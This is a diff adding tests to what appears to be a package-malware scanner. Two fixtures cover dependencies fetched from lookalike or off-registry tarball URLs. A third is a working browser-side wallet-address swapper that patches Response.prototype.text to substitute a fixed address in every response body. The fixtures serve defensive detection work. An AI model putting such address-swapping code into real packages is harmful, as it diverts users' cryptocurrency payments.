@@ -698,3 +698,49 @@ describe('a Rust build script cargo runs at install (round 81)', () => {
     expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
   });
 });
+
+describe('account takeover shapes (round 85)', () => {
+  it('reads a dependency named by a URL laid out as a registry tarball, on another host, as a warning or worse', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'front-matter-lite',
+        version: '4.1.3',
+        main: 'index.js',
+        dependencies: {
+          'yaml-core': 'https://registry.yamlcore-mirror.example/yaml-core/-/yaml-core-4.1.1.tgz',
+        },
+      }),
+      'index.js': 'module.exports = {};',
+    });
+    expect(ruleOf(r, 'pkg.url-dependency')?.confidence).toBe(0.75);
+    expect(r.risk_level).not.toBe('clean');
+  });
+  it('keeps a distribution hosted in its own layout at the URL-dependency base', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'sheet-report',
+        version: '1.0.0',
+        main: 'index.js',
+        dependencies: {
+          'sheet-core': 'https://cdn.sheet-core.example/sheet-core-0.20.0/sheet-core-0.20.0.tgz',
+        },
+      }),
+      'index.js': 'module.exports = {};',
+    });
+    expect(ruleOf(r, 'pkg.url-dependency')?.confidence).toBe(0.45);
+  });
+  it('reads a browser build that rewrites addresses in every response body (Response.prototype.text)', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'fetch-backoff', version: '2.7.1', browser: 'dist/umd.js' }),
+      'dist/umd.js': [
+        'var SWAP = ["0x7a3F00000000000000000000000000000000b0b0"];',
+        'function fix(t) { return t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, function () { return SWAP[0]; }); }',
+        "if (typeof window !== 'undefined') {",
+        '  var _text = Response.prototype.text;',
+        '  Response.prototype.text = function () { return _text.call(this).then(fix); };',
+        '}',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.wallet-address-swap')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+});
